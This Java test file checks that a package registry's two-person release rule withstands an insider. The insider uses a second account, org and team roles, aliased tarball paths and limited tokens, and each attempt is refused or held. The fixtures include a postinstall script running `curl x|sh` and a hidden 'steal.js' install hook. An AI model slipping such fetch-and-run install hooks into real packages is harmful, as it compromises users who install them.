package dev.warden.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.warden.server.testing.Http;
import dev.warden.server.testing.LogReader;
import dev.warden.server.testing.Maintainers;
import dev.warden.server.testing.MovableClock;
import dev.warden.server.testing.Tarballs;
import dev.warden.server.testing.Tarballs.Entry;
import dev.warden.server.testing.TestServer;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

/**
 * One person must not pass a two-person rule. An insider who owns the org of a governed package,
 * controls a second account and holds package-limited tokens tries every way to release alone or to
 * make the approvers look at something other than what goes live; each attempt fails for its stated
 * reason and changes nothing.
 */
class InsiderAttackTest {

    static final ObjectMapper JSON = new ObjectMapper();
    static final Map<String, Object> TWO_PERSON = Map.of("framework", "two-person");

    MovableClock clock;
    TestServer server;
    Http http;
    Maintainers people;

    @BeforeEach
    void start() throws Exception {
        clock = new MovableClock();
        server = TestServer.start(Map.of(), clock);
        http = server.http();
        people = new Maintainers(server, clock);
    }

    @AfterEach
    void stop() throws Exception {
        server.close();
    }

    /**
     * The insider's org @acme with @acme/core, maintained by olga (owner of the org) and alice,
     * under a two-person rule.
     */
    void acme() throws Exception {
        people.join("olga");
        people.join("alice");
        people.join("sock"); // olga's second account
        assertThat(
                        people.send(
                                        "POST",
                                        "/-/warden/v1/orgs",
                                        "olga",
                                        Map.of("name", "acme"),
                                        false)
                                .status())
                .isEqualTo(201);
        people.govern("@acme/core", TWO_PERSON, "olga", "alice");
    }

    String stage(String pkg, String version, String user, byte[] tarball, ObjectNode manifest)
            throws Exception {
        Http.Result r =
                people.send(
                        "PUT",
                        Tarballs.path(pkg),
                        user,
                        Tarballs.publishBody(manifest, tarball),
                        false);
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        assertThat(r.header("npm-notice")).contains("staged as");
        return r.json().path("stageId").asText();
    }

    String stageWithInstallScript(String pkg, String version) throws Exception {
        ObjectNode manifest = Tarballs.manifest(pkg, version);
        ObjectNode inTarball = manifest.deepCopy();
        inTarball.putObject("scripts").put("postinstall", "node setup.js");
        return stage(
                pkg,
                version,
                "olga",
                Tarballs.tgz(
                        List.of(
                                Entry.file(
                                        "package/package.json", JSON.writeValueAsBytes(inTarball)),
                                Entry.file(
                                        "package/setup.js",
                                        "require('child_process').exec('curl x|sh')\n"))),
                manifest);
    }

    Http.Result approve(String stageId, String user) throws Exception {
        return people.send("POST", "/-/stage/" + stageId + "/approve", user, null, true);
    }

    JsonNode packument(String pkg) throws Exception {
        return http.get(Tarballs.path(pkg)).json();
    }

    // ------------------------------------------------------------------ 1. the review shows what
    // will be served

    @Test
    void theReviewShowsTheManifestThatWillBeServedWhateverTheTarballsTopFolder() throws Exception {
        people.govern("review-me", TWO_PERSON, "ta", "tb");
        // the manifest sent says nothing of a script or a dependency; the tarball's package.json,
        // under pkg/, adds both
        ObjectNode sent = Tarballs.manifest("review-me", "1.1.0");
        ObjectNode inside = sent.deepCopy();
        inside.putObject("scripts").put("postinstall", "node steal.js");
        inside.putObject("dependencies").put("evil-helper", "^1.0.0");
        byte[] tarball =
                Tarballs.tgz(
                        List.of(
                                Entry.file("pkg/package.json", JSON.writeValueAsBytes(inside)),
                                Entry.file("pkg/index.js", "module.exports = 1;\n"),
                                Entry.file("pkg/steal.js", "process.env\n")));
        Http.Result staged =
                people.send(
                        "PUT",
                        Tarballs.path("review-me"),
                        "ta",
                        Tarballs.publishBody(sent, tarball),
                        false);
        assertThat(staged.status()).as(staged.body()).isEqualTo(200);
        String id = staged.json().path("stageId").asText();

        JsonNode review = people.send("GET", "/-/stage/" + id, "tb", null, false).json();
        assertThat(review.path("installScripts").asText())
                .isEqualTo("postinstall: \"node steal.js\" (new)");
        assertThat(review.path("packageJsonChanges").asText())
                .contains("scripts.postinstall: (none) -> \"node steal.js\"")
                .contains("dependencies.evil-helper: (none) -> \"^1.0.0\"");
        assertThat(review.path("filesAdded").asText()).startsWith("steal.js (");

        assertThat(approve(id, "tb").json().path("live").asBoolean()).isTrue();
        JsonNode served = packument("review-me").path("versions").path("1.1.0");
        // what went live is what the approver was shown
        assertThat(served.path("scripts").path("postinstall").asText()).isEqualTo("node steal.js");
        assertThat(served.path("dependencies").path("evil-helper").asText()).isEqualTo("^1.0.0");
    }

    @Test
    void aTarballWithTwoTopFoldersIsRefusedAndNothingIsStaged() throws Exception {
        people.govern("two-tops", TWO_PERSON, "ta", "tb");
        ObjectNode honest = Tarballs.manifest("two-tops", "1.1.0");
        ObjectNode hidden = honest.deepCopy();
        hidden.putObject("scripts").put("preinstall", "node x.js");
        byte[] tarball =
                Tarballs.tgz(
                        List.of(
                                Entry.file("package/package.json", JSON.writeValueAsBytes(honest)),
                                Entry.file("other/package.json", JSON.writeValueAsBytes(hidden))));
        Http.Result r =
                people.send(
                        "PUT",
                        Tarballs.path("two-tops"),
                        "ta",
                        Tarballs.publishBody(honest, tarball),
                        false);
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.error())
                .contains("\"other/package.json\" is outside the package folder \"package/\"")
                .contains("one top folder");
        assertThat(
                        people.send("GET", "/-/stage?package=two-tops", "tb", null, false)
                                .json()
                                .path("total")
                                .asInt())
                .isZero();

        byte[] backslash =
                Tarballs.tgz(
                        List.of(
                                Entry.file("package/index.js", "1;\n"),
                                Entry.file(
                                        "package\\package.json", JSON.writeValueAsBytes(hidden))));
        Http.Result windows =
                people.send(
                        "PUT",
                        Tarballs.path("two-tops"),
                        "ta",
                        Tarballs.publishBody(honest, backslash),
                        false);
        assertThat(windows.status()).isEqualTo(400);
        assertThat(windows.error()).contains("has a backslash in its path");

        // names that npm (or a case-insensitive disk) would take for another file than the registry
        // reads
        Map<String, String> aliases =
                Map.of(
                        "package/./binding.gyp", "has an empty or '.' path segment",
                        "package//package.json", "has an empty or '.' path segment",
                        "./package/setup.js", "has an empty or '.' path segment",
                        "package/BINDING.GYP", "differs from binding.gyp only in case",
                        "package/Package.json", "differs from package.json only in case",
                        "package/INDEX.js",
                                "appears twice (or another differs from it only in case");
        for (Map.Entry<String, String> alias : aliases.entrySet()) {
            byte[] aliased =
                    Tarballs.tgz(
                            List.of(
                                    Entry.file(
                                            "package/package.json", JSON.writeValueAsBytes(honest)),
                                    Entry.file("package/index.js", "1;\n"),
                                    Entry.file(alias.getKey(), "{\"targets\": []}")));
            Http.Result r2 =
                    people.send(
                            "PUT",
                            Tarballs.path("two-tops"),
                            "ta",
                            Tarballs.publishBody(honest, aliased),
                            false);
            assertThat(r2.status()).as(alias.getKey()).isEqualTo(400);
            assertThat(r2.error()).as(alias.getKey()).contains(alias.getValue());
        }

        byte[] noManifest = Tarballs.tgz(List.of(Entry.file("pkg/index.js", "1;\n")));
        Http.Result none =
                people.send(
                        "PUT",
                        Tarballs.path("two-tops"),
                        "ta",
                        Tarballs.publishBody(honest, noManifest),
                        false);
        assertThat(none.status()).isEqualTo(400);
        assertThat(none.error()).contains("no package.json in its package folder \"pkg/\"");
    }

    // ------------------------------------------------------------------ 2. an org owner cannot
    // manufacture an approver

    @Test
    void anOrgOwnerCannotMakeASecondAccountAnApproverAlone() throws Exception {
        acme();
        // a developer member gains nothing on the package: not held, but logged
        Http.Result developer =
                people.send(
                        "PUT",
                        "/-/org/acme/user",
                        "olga",
                        Map.of("user", "sock", "role", "developer"),
                        false);
        assertThat(developer.status()).as(developer.body()).isEqualTo(200);
        String stageId = stageWithInstallScript("@acme/core", "1.1.0");

        // making the second account an admin would make it an approver of @acme/core: held for
        // alice
        Http.Result admin =
                people.send(
                        "PUT",
                        "/-/org/acme/user",
                        "olga",
                        Map.of("user", "sock", "role", "admin"),
                        false);
        assertThat(admin.status()).as(admin.body()).isEqualTo(202);
        assertThat(admin.header("npm-notice"))
                .contains(
                        "making sock admin of acme would let sock act on @acme/core, which is"
                                + " governed");
        String requestId = admin.json().path("requestId").asText();
        assertThat(
                        http.get("/-/org/acme/user", people.token("olga"), Map.of())
                                .json()
                                .path("sock")
                                .asText())
                .isEqualTo("developer");

        // so the second account cannot approve the release
        Http.Result sockApproves = approve(stageId, "sock");
        assertThat(sockApproves.status()).isEqualTo(403);
        assertThat(sockApproves.error()).contains("you are not a maintainer of @acme/core");

        // nor through a team: a grant to an empty team is harmless, adding the account to it is
        // held
        assertThat(
                        people.send(
                                        "PUT",
                                        "/-/org/acme/team",
                                        "olga",
                                        Map.of("name", "core"),
                                        false)
                                .status())
                .isEqualTo(201);
        assertThat(
                        people.send(
                                        "PUT",
                                        "/-/team/acme/core/package",
                                        "olga",
                                        Map.of(
                                                "package",
                                                "@acme/core",
                                                "permissions",
                                                "read-write"),
                                        false)
                                .status())
                .isEqualTo(200);
        Http.Result team =
                people.send("PUT", "/-/team/acme/core/user", "olga", Map.of("user", "sock"), false);
        assertThat(team.status()).as(team.body()).isEqualTo(202);
        assertThat(team.header("npm-notice"))
                .contains("adding sock to team acme:core would let sock act on @acme/core");
        assertThat(http.get("/-/team/acme/core/user", people.token("olga"), Map.of()).json())
                .isEmpty();
        assertThat(approve(stageId, "sock").status()).isEqualTo(403);

        // the owner cannot approve her own org change, and the account it would empower cannot
        // either
        Http.Result self =
                people.send(
                        "POST",
                        "/-/governance/requests/" + requestId + "/approve",
                        "olga",
                        null,
                        true);
        assertThat(self.status()).isEqualTo(403);
        assertThat(self.error()).contains("you requested this change");
        Http.Result bySock =
                people.send(
                        "POST",
                        "/-/governance/requests/" + requestId + "/approve",
                        "sock",
                        null,
                        true);
        assertThat(bySock.status()).isEqualTo(403);
        assertThat(bySock.error()).contains("you are not a maintainer of @acme/core");
        assertThat(packument("@acme/core").path("versions").has("1.1.0")).isFalse();

        // alice approves the role; sock is an admin from now on, which does not reach back to the
        // stage opened before
        Http.Result alice =
                people.send(
                        "POST",
                        "/-/governance/requests/" + requestId + "/approve",
                        "alice",
                        null,
                        true);
        assertThat(alice.status()).as(alice.body()).isEqualTo(200);
        assertThat(alice.json().path("applied").asBoolean()).isTrue();
        assertThat(
                        http.get("/-/org/acme/user", people.token("olga"), Map.of())
                                .json()
                                .path("sock")
                                .asText())
                .isEqualTo("admin");
        Http.Result late = approve(stageId, "sock");
        assertThat(late.status()).isEqualTo(403);
        assertThat(late.error()).contains("after this was opened");
        assertThat(packument("@acme/core").path("versions").has("1.1.0")).isFalse();

        // every organization change is in the transparency log, held or not
        List<String> kinds =
                statements().stream()
                        .map(s -> s.path("kind").asText() + " " + s.path("user").asText())
                        .toList();
        assertThat(kinds).contains("org.member-set sock", "org.granted ", "change.requested ");
        assertThat(
                        statements().stream()
                                .filter(
                                        s ->
                                                s.path("kind").asText().equals("org.member-set")
                                                        && s.path("role").asText().equals("admin")))
                .hasSize(1);
    }

    @Test
    void anOwnerChangeRequestCannotBeApprovedByTheAccountItAdds() throws Exception {
        acme();
        assertThat(
                        people.send(
                                        "PUT",
                                        "/-/org/acme/user",
                                        "olga",
                                        Map.of("user", "sock", "role", "developer"),
                                        false)
                                .status())
                .isEqualTo(200);
        JsonNode doc =
                http.get(
                                Tarballs.path("@acme/core") + "?write=true",
                                people.token("olga"),
                                Map.of())
                        .json();
        ((ObjectNode) doc)
                .withArray("maintainers")
                .addObject()
                .put("name", "sock")
                .put("email", "sock@example.com");
        Http.Result owners =
                people.send(
                        "PUT",
                        Tarballs.path("@acme/core") + "/-rev/" + doc.path("_rev").asText(),
                        "olga",
                        doc,
                        false);
        assertThat(owners.status()).as(owners.body()).isEqualTo(200);
        assertThat(owners.header("npm-notice"))
                .contains("adding or removing maintainers needs 1 other maintainer(s)' approval");
        String requestId =
                owners.header("npm-notice")
                        .replaceAll(".*pending as change request ([0-9a-f-]{36}).*", "$1");
        Http.Result bySock =
                people.send(
                        "POST",
                        "/-/governance/requests/" + requestId + "/approve",
                        "sock",
                        null,
                        true);
        assertThat(bySock.status()).isEqualTo(403);
        assertThat(bySock.error()).contains("you are not a maintainer of @acme/core");
        assertThat(
                        http.get(
                                        "/-/package/@acme%2fcore/collaborators",
                                        people.token("olga"), Map.of())
                                .json()
                                .has("sock"))
                .isFalse();
    }

    @Test
    void anOrgChangeThatEmpowersSomeoneOnTwoGovernedPackagesNeedsTheQuorumOfEach()
            throws Exception {
        acme();
        people.join("bob");
        assertThat(
                        people.send(
                                        "PUT",
                                        "/-/org/acme/user",
                                        "olga",
                                        Map.of("user", "sock", "role", "developer"),
                                        false)
                                .status())
                .isEqualTo(200);
        people.govern("@acme/tools", TWO_PERSON, "olga", "bob");
        Http.Result admin =
                people.send(
                        "PUT",
                        "/-/org/acme/user",
                        "olga",
                        Map.of("user", "sock", "role", "admin"),
                        false);
        assertThat(admin.status()).as(admin.body()).isEqualTo(202);
        assertThat(admin.header("npm-notice")).contains("act on @acme/core, @acme/tools");
        String core =
                people.send(
                                "GET",
                                "/-/governance/requests?package=@acme/core",
                                "alice",
                                null,
                                false)
                        .json()
                        .get(0)
                        .path("id")
                        .asText();
        String tools =
                people.send("GET", "/-/governance/requests?package=@acme/tools", "bob", null, false)
                        .json()
                        .get(0)
                        .path("id")
                        .asText();
        // alice cannot decide for @acme/tools, whose maintainers are olga and bob
        Http.Result aliceOnTools =
                people.send(
                        "POST",
                        "/-/governance/requests/" + tools + "/approve",
                        "alice",
                        null,
                        true);
        assertThat(aliceOnTools.status()).isEqualTo(403);
        assertThat(aliceOnTools.error()).contains("you are not a maintainer of @acme/tools");

        Http.Result first =
                people.send(
                        "POST", "/-/governance/requests/" + core + "/approve", "alice", null, true);
        assertThat(first.status()).as(first.body()).isEqualTo(200);
        assertThat(first.json().path("applied").asBoolean()).isFalse();
        assertThat(
                        http.get("/-/org/acme/user", people.token("olga"), Map.of())
                                .json()
                                .path("sock")
                                .asText())
                .isEqualTo("developer");

        Http.Result second =
                people.send(
                        "POST", "/-/governance/requests/" + tools + "/approve", "bob", null, true);
        assertThat(second.status()).as(second.body()).isEqualTo(200);
        assertThat(second.json().path("applied").asBoolean()).isTrue();
        assertThat(
                        http.get("/-/org/acme/user", people.token("olga"), Map.of())
                                .json()
                                .path("sock")
                                .asText())
                .isEqualTo("admin");
    }

    @Test
    void anApprovalFromAnAccountYoungerThanTheConfiguredAgeDoesNotCount() throws Exception {
        server.close();
        server = TestServer.start(Map.of("governance.min_approver_account_age_days", "30"), clock);
        http = server.http();
        people = new Maintainers(server, clock);
        people.govern("aged", TWO_PERSON, "ta", "tb");
        String stageId =
                stage(
                        "aged",
                        "1.1.0",
                        "ta",
                        Tarballs.packageTgz(Tarballs.manifest("aged", "1.1.0")),
                        Tarballs.manifest("aged", "1.1.0"));
        Http.Result young = approve(stageId, "tb");
        assertThat(young.status()).isEqualTo(403);
        assertThat(young.error()).contains("your account is younger than 30 days");
        clock.advance(java.time.Duration.ofDays(31));
        // a stage lives for 7 days: a new one, approved by the account now old enough
        String again =
                stage(
                        "aged",
                        "1.2.0",
                        "ta",
                        Tarballs.packageTgz(Tarballs.manifest("aged", "1.2.0")),
                        Tarballs.manifest("aged", "1.2.0"));
        assertThat(approve(again, "tb").json().path("live").asBoolean()).isTrue();
    }

    @Test
    void namingASuccessorOfAGovernedPackageIsTheQuorumsDecision() throws Exception {
        people.govern("heirloom", TWO_PERSON, "ta", "tb");
        people.join("sock");
        Http.Result named =
                people.send(
                        "PUT",
                        "/-/package/heirloom/successors",
                        "ta",
                        Map.of("successors", List.of("sock")),
                        true);
        assertThat(named.status()).as(named.body()).isEqualTo(202);
        assertThat(named.header("npm-notice")).contains("naming its successors (sock)");
        assertThat(http.get("/-/package/heirloom/succession").json().path("successors")).isEmpty();
        // a bad list is refused before anything is held
        Http.Result ghost =
                people.send(
                        "PUT",
                        "/-/package/heirloom/successors",
                        "ta",
                        Map.of("successors", List.of("ghost")),
                        true);
        assertThat(ghost.status()).isEqualTo(404);
        assertThat(
                        people.send(
                                        "GET",
                                        "/-/governance/requests?package=heirloom",
                                        "tb",
                                        null,
                                        false)
                                .json())
                .hasSize(1);
        Http.Result approved =
                people.send(
                        "POST",
                        "/-/governance/requests/"
                                + named.json().path("requestId").asText()
                                + "/approve",
                        "tb",
                        null,
                        true);
        assertThat(approved.json().path("applied").asBoolean()).as(approved.body()).isTrue();
        assertThat(
                        http.get("/-/package/heirloom/succession")
                                .json()
                                .path("successors")
                                .get(0)
                                .asText())
                .isEqualTo("sock");
    }

    @Test
    void anOrgCannotBeMadeOverAScopeWhoseGovernedPackagesItsOwnerDoesNotMaintain()
            throws Exception {
        // olga holds the scope @olgaco (she published in it first) and shares @olgaco/base with
        // alice, who publishes and
        // governs @olgaco/lib with bob
        people.govern("@olgaco/base", Map.of("framework", "solo"), "olga", "alice");
        people.govern("@olgaco/lib", TWO_PERSON, "alice", "bob");
        Http.Result org =
                people.send("POST", "/-/warden/v1/orgs", "olga", Map.of("name", "olgaco"), false);
        assertThat(org.status()).isEqualTo(409);
        assertThat(org.error())
                .contains("the scope @olgaco has governed packages you do not maintain")
                .doesNotContain("@olgaco/lib");
        assertThat(http.get("/-/org/olgaco/user", people.token("olga"), Map.of()).status())
                .isEqualTo(404);
        // alice, who maintains every governed package of the scope, is not its holder: the scope's
        // rule refuses her
        Http.Result byAlice =
                people.send("POST", "/-/warden/v1/orgs", "alice", Map.of("name", "olgaco"), false);
        assertThat(byAlice.status()).isEqualTo(409);
        assertThat(byAlice.error()).contains("the scope @olgaco is held by another account");
    }

    @Test
    void aStageOpenedUnderALooserPolicyNeedsWhatTheTightenedPolicyAsks() throws Exception {
        people.govern("tightened", Map.of("framework", "solo"), "ta", "tb");
        // staged while the package asked for no approvals: npm's staging lets the stager approve it
        Http.Result staged =
                people.send(
                        "POST",
                        "/-/stage/package/tightened",
                        "ta",
                        Tarballs.publishBody("tightened", "1.1.0"),
                        false);
        assertThat(staged.status()).as(staged.body()).isEqualTo(200);
        String stageId = staged.json().path("stageId").asText();
        assertThat(
                        people.send(
                                        "PUT",
                                        "/-/package/tightened/governance",
                                        "tb",
                                        TWO_PERSON,
                                        true)
                                .status())
                .isEqualTo(200);
        Http.Result alone = approve(stageId, "ta");
        assertThat(alone.status()).isEqualTo(403);
        assertThat(alone.error())
                .contains(
                        "you staged tightened@1.1.0: its policy needs approval from 1 other"
                                + " maintainer(s)");
        assertThat(packument("tightened").path("versions").has("1.1.0")).isFalse();
        assertThat(approve(stageId, "tb").json().path("live").asBoolean()).isTrue();
    }

    @Test
    void oneGovernedPackagesRejectionEndsTheWholeOrgChange() throws Exception {
        acme();
        people.join("bob");
        people.govern("@acme/tools", TWO_PERSON, "olga", "bob");
        Http.Result admin =
                people.send(
                        "PUT",
                        "/-/org/acme/user",
                        "olga",
                        Map.of("user", "sock", "role", "admin"),
                        false);
        assertThat(admin.status()).as(admin.body()).isEqualTo(202);
        String core =
                people.send(
                                "GET",
                                "/-/governance/requests?package=@acme/core",
                                "alice",
                                null,
                                false)
                        .json()
                        .get(0)
                        .path("id")
                        .asText();
        String tools =
                people.send("GET", "/-/governance/requests?package=@acme/tools", "bob", null, false)
                        .json()
                        .get(0)
                        .path("id")
                        .asText();
        assertThat(
                        people.send(
                                        "POST",
                                        "/-/governance/requests/" + core + "/approve",
                                        "alice",
                                        null,
                                        true)
                                .json()
                                .path("applied")
                                .asBoolean())
                .isFalse();
        assertThat(
                        people.send("DELETE", "/-/governance/requests/" + tools, "bob", null, true)
                                .status())
                .isEqualTo(200);
        assertThat(
                        people.send("GET", "/-/governance/requests/" + core, "alice", null, false)
                                .json()
                                .path("state")
                                .asText())
                .isEqualTo("rejected");
        assertThat(http.get("/-/org/acme/user", people.token("olga"), Map.of()).json().has("sock"))
                .isFalse();
    }

    // ------------------------------------------------------------------ 3. token limits hold for
    // governance too

    @Test
    void aTokenLimitedToAnotherPackageCannotGovernThisOne() throws Exception {
        people.govern("guarded", TWO_PERSON, "ta", "tb");
        people.govern("elsewhere", TWO_PERSON, "tb", "ta");
        Http.Result made =
                people.sendWith(
                        people.token("tb"),
                        "POST",
                        "/-/npm/v1/tokens",
                        "tb",
                        Map.of(
                                "password",
                                TestServer.password("tb"),
                                "packages",
                                List.of("elsewhere"),
                                "packages_and_scopes_permission",
                                "read-write",
                                "expires",
                                30),
                        true);
        assertThat(made.status()).as(made.body()).isEqualTo(200);
        String limited = made.json().path("token").asText();
        Http.Result ro =
                people.sendWith(
                        people.token("tb"),
                        "POST",
                        "/-/npm/v1/tokens",
                        "tb",
                        Map.of("password", TestServer.password("tb")),
                        true);
        assertThat(ro.status()).as(ro.body()).isEqualTo(200);
        String readOnly = ro.json().path("token").asText();
        String stageId =
                stage(
                        "guarded",
                        "1.1.0",
                        "ta",
                        Tarballs.packageTgz(Tarballs.manifest("guarded", "1.1.0")),
                        Tarballs.manifest("guarded", "1.1.0"));
        Http.Result held =
                people.send(
                        "PUT",
                        "/-/package/guarded/governance",
                        "ta",
                        Map.of("framework", "solo"),
                        true);
        assertThat(held.status()).isEqualTo(202);
        String requestId = held.json().path("requestId").asText();
        JsonNode policyBefore = http.get("/-/package/guarded/governance").json().path("versions");

        for (String token : List.of(limited, readOnly)) {
            String reason = token.equals(limited) ? "limited to other packages" : "read-only";
            Map<String, Object[]> attempts =
                    Map.of(
                            "approve the stage",
                                    new Object[] {"POST", "/-/stage/" + stageId + "/approve", null},
                            "reject the stage",
                                    new Object[] {"DELETE", "/-/stage/" + stageId, null},
                            "approve the change",
                                    new Object[] {
                                        "POST",
                                        "/-/governance/requests/" + requestId + "/approve",
                                        null
                                    },
                            "reject the change",
                                    new Object[] {
                                        "DELETE", "/-/governance/requests/" + requestId, null
                                    },
                            "tighten the policy",
                                    new Object[] {
                                        "PUT",
                                        "/-/package/guarded/governance",
                                        Map.of("approvals", 1, "coolOffHours", 5)
                                    },
                            "name successors",
                                    new Object[] {
                                        "PUT",
                                        "/-/package/guarded/successors",
                                        Map.of("successors", List.of("tb"))
                                    },
                            "stage a release",
                                    new Object[] {
                                        "POST",
                                        "/-/stage/package/guarded",
                                        Tarballs.publishBody("guarded", "1.2.0")
                                    });
            for (Map.Entry<String, Object[]> a : attempts.entrySet()) {
                Object[] req = a.getValue();
                Http.Result r =
                        people.sendWith(
                                token, (String) req[0], (String) req[1], "tb", req[2], true);
                assertThat(r.status())
                        .as(a.getKey() + " with a " + reason + " token: " + r.body())
                        .isEqualTo(403);
                assertThat(r.error()).as(a.getKey()).contains(reason);
            }
        }
        // nor file a change request in the maintainer's name
        String rev =
                http.get("/guarded?write=true", people.token("tb"), Map.of())
                        .json()
                        .path("_rev")
                        .asText();
        Http.Result unpublish =
                people.sendWith(limited, "DELETE", "/guarded/-rev/" + rev, "tb", null, true);
        assertThat(unpublish.status()).isEqualTo(403);
        assertThat(unpublish.error()).contains("limited to other packages");
        assertThat(
                        people.send(
                                        "GET",
                                        "/-/governance/requests?package=guarded",
                                        "tb",
                                        null,
                                        false)
                                .json())
                .hasSize(1);
        // nor can a token for another package read this one's review
        assertThat(
                        people.sendWith(limited, "GET", "/-/stage/" + stageId, "tb", null, false)
                                .status())
                .isEqualTo(404);
        assertThat(
                        people.send("GET", "/-/stage/" + stageId, "tb", null, false)
                                .json()
                                .path("approvals")
                                .asInt())
                .isZero();
        assertThat(
                        people.send("GET", "/-/governance/requests/" + requestId, "tb", null, false)
                                .json()
                                .path("state")
                                .asText())
                .isEqualTo("pending");
        assertThat(http.get("/-/package/guarded/governance").json().path("versions"))
                .isEqualTo(policyBefore);
        assertThat(http.get("/-/package/guarded/succession").json().path("successors")).isEmpty();
        assertThat(packument("guarded").path("versions").has("1.1.0")).isFalse();
        // the same account's full token still works
        assertThat(approve(stageId, "tb").json().path("live").asBoolean()).isTrue();
    }

    List<JsonNode> statements() throws Exception {
        return LogReader.statements(http);
    }
}
